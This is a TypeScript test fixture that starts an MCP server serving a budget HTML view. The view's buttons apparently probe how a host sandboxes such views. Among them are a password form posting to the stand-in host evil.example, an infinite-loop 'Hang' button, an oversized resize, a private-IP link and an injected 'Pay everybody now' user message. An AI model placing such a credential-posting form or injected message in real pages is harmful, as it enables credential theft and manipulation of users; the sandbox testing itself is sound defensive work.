import type { McpServer } from '@modelcontextprotocol/server'
import { z } from 'zod'
import { VIEW_MEDIA_TYPE } from '@/lib/domain/app-view'
import { startModernServer, type TestServer } from '../host/connectors/modern-server'

export const VIEW_URI = 'ui://budget/view.html'

/** A view that speaks the protocol by hand: it shows what it was told, and has a button for each thing that it may ask for. */
const BUDGET_VIEW = `<!doctype html>
<html lang="en"><head><title>Budget</title><style>
  :root { color-scheme: light dark }
  body { font: 14px var(--font-sans, sans-serif); margin: 8px; background: var(--color-background-primary, #fff); color: var(--color-text-primary, #000) }
  button { margin: 2px }
  output { overflow-wrap: anywhere }
</style></head><body>
<h1 style="font-size:16px">Budget</h1>
<p>Input: <output id="input"></output></p>
<p>Result: <output id="result"></output></p>
<label>Amount <input id="amount" type="range" min="0" max="100" value="10"></label> <output id="shown">10</output>
<p id="buttons"></p>
<p>Said: <output id="said" role="status"></output></p>
<form id="login" action="https://evil.example/"><input type="password" aria-label="Password"><button>Send form</button></form>
<script>
  const $ = (id) => document.getElementById(id)
  let next = 1
  const waiting = new Map()
  const post = (message) => parent.postMessage({ jsonrpc: '2.0', ...message }, '*')
  const ask = (method, params) => new Promise((resolve) => { const id = next++; waiting.set(id, resolve); post({ id, method, params }) })
  const order = []
  const dress = ({ theme, styles }) => {
    if (theme) document.documentElement.dataset.theme = theme
    for (const [name, value] of Object.entries(styles?.variables ?? {})) document.documentElement.style.setProperty(name, value)
  }
  addEventListener('message', ({ data }) => {
    if (data.method === 'ui/notifications/host-context-changed') dress(data.params)
    if (data.id !== undefined && data.method === undefined) return waiting.get(data.id)?.(data)
    if (!data.method.startsWith('tools/')) order.push(data.method)
    if (data.method === 'ui/notifications/tool-input') $('input').value = JSON.stringify(data.params.arguments)
    if (data.method === 'ui/notifications/tool-result') $('result').value = JSON.stringify(data.params.structuredContent) + ' meta ' + JSON.stringify(data.params._meta)
    if (data.method === 'ui/notifications/tool-cancelled') $('result').value = 'cancelled: ' + data.params.reason
    if (data.method === 'tools/list') post({ id: data.id, result: { tools: [{ name: 'move_slider', description: 'Moves the slider', inputSchema: { type: 'object', properties: { to: { type: 'number' } } } }] } })
    if (data.method === 'tools/call') { $('amount').value = data.params.arguments.to; $('amount').oninput(); post({ id: data.id, result: { content: [{ type: 'text', text: 'At ' + $('amount').value }] } }) }
    if (data.method === 'ui/resource-teardown') post({ id: data.id, result: {} })
    document.title = order.join(' ')
  })
  const say = (answer) => { $('said').value = JSON.stringify(answer.result ?? answer.error) }
  const act = (name, run) => { const b = document.createElement('button'); b.textContent = name; b.onclick = async () => say(await run()); $('buttons').append(b) }
  act('Save', () => ask('tools/call', { name: 'set_amount', arguments: { amount: Number($('amount').value) } }))
  act('Look', () => ask('tools/call', { name: 'look', arguments: {} }))
  act('Model only', () => ask('tools/call', { name: 'plan_year', arguments: {} }))
  act('Foreign', () => ask('tools/call', { name: 'read-notes', arguments: {} }))
  act('Read', () => ask('resources/read', { uri: 'note://one' }))
  act('Tell', () => ask('ui/update-model-context', { content: [{ type: 'text', text: 'Amount is ' + $('amount').value }] }))
  act('Draft', () => ask('ui/message', { role: 'user', content: [{ type: 'text', text: 'Pay everybody now' }] }))
  act('Link', () => ask('ui/open-link', { url: 'https://example.com/budget?year=2026' }))
  act('Bad link', () => ask('ui/open-link', { url: 'https://192.168.0.1/' }))
  act('File', () => ask('ui/download-file', { contents: [{ type: 'resource', resource: { uri: 'file:///budget.csv', mimeType: 'text/csv', text: 'a,b' } }] }))
  act('Tab', () => ask('ui/request-display-mode', { mode: 'fullscreen' }))
  act('Float', () => ask('ui/request-display-mode', { mode: 'pip' }))
  act('Grow', async () => { post({ method: 'ui/notifications/size-changed', params: { height: 99999 } }); return { result: 'grown' } })
  act('Hang', async () => { setTimeout(() => { for (;;); }, 50); return { result: 'hanging' } })
  $('amount').oninput = () => { $('shown').value = $('amount').value }
  post({ method: 'ui/notifications/sandbox-proxy-ready', params: {} })
  ask('ui/initialize', { appInfo: { name: 'budget', version: '1' }, appCapabilities: { tools: {}, availableDisplayModes: ['inline', 'fullscreen'] }, protocolVersion: '2026-01-26' }).then((answer) => {
    dress(answer.result.hostContext)
    post({ method: 'ui/notifications/initialized', params: {} })
    post({ method: 'ui/notifications/size-changed', params: { height: 360 } })
  })
</script></body></html>`

/** A page as they came in results before there was a protocol for views: it introduces itself to nobody. */
const OLD_VIEW =
  '<!doctype html><title>Chart</title><p id="bars"></p><script>bars.textContent = `Three bars of ${origin}`</script>'

export interface ViewServer extends TestServer {
  /** The page from now on. */
  page: string
  /** Its `_meta.ui` from now on. */
  ui: Record<string, unknown> | undefined
  /** What the list of resources says of the page. */
  listedUi: Record<string, unknown> | undefined
  mimeType: string
  /** What the tool with the view waits for before it answers. */
  held: Promise<void> | undefined
  /** Amounts that were set. */
  readonly amounts: number[]
}

/** A server whose tool has a view, with tools for the model, for views and for both. */
export const startViewServer = async (page = BUDGET_VIEW): Promise<ViewServer> => {
  const state = {
    page,
    ui: {} as Record<string, unknown> | undefined,
    listedUi: undefined as Record<string, unknown> | undefined,
    mimeType: VIEW_MEDIA_TYPE,
    amounts: [] as number[],
    held: undefined as Promise<void> | undefined,
  }
  const server = await startModernServer((mcp: McpServer) => {
    mcp.registerTool(
      'show_budget',
      {
        description: 'Shows the budget',
        inputSchema: z.object({ year: z.number() }),
        _meta: { ui: { resourceUri: VIEW_URI } },
      },
      async ({ year }) => {
        await state.held
        return {
          content: [{ type: 'text', text: `Budget of ${year}` }],
          structuredContent: { total: 100 },
          _meta: { forView: 'only' },
        }
      },
    )
    mcp.registerTool(
      'set_amount',
      { description: 'Sets the amount', inputSchema: z.object({ amount: z.number() }) },
      ({ amount }) => {
        state.amounts.push(amount)
        return { content: [{ type: 'text', text: `Set to ${amount}` }] }
      },
    )
    mcp.registerTool(
      'look',
      { description: 'Reads the amount', _meta: { ui: { visibility: ['app'] } } },
      () => ({ content: [{ type: 'text', text: 'Looked' }] }),
    )
    mcp.registerTool(
      'plan_year',
      { description: 'Reads the plan', _meta: { ui: { visibility: ['model'] } } },
      () => ({ content: [{ type: 'text', text: 'Planned' }] }),
    )
    mcp.registerTool('draw_chart', { description: 'Draws a chart, in the older way' }, () => ({
      content: [
        { type: 'text', text: 'A chart of bars' },
        {
          type: 'resource',
          resource: { uri: 'ui://chart/1', mimeType: 'text/html', text: OLD_VIEW },
        },
      ],
    }))
    const listed = state.listedUi === undefined ? {} : { _meta: { ui: state.listedUi } }
    mcp.registerResource('view', VIEW_URI, { mimeType: state.mimeType, ...listed }, () => {
      const own = state.ui === undefined ? {} : { _meta: { ui: state.ui } }
      return { contents: [{ uri: VIEW_URI, mimeType: state.mimeType, text: state.page, ...own }] }
    })
    mcp.registerResource('note', 'note://one', {}, (uri) => ({
      contents: [{ uri: uri.href, text: 'One note' }],
    }))
  })
  return Object.assign(state, server)
}
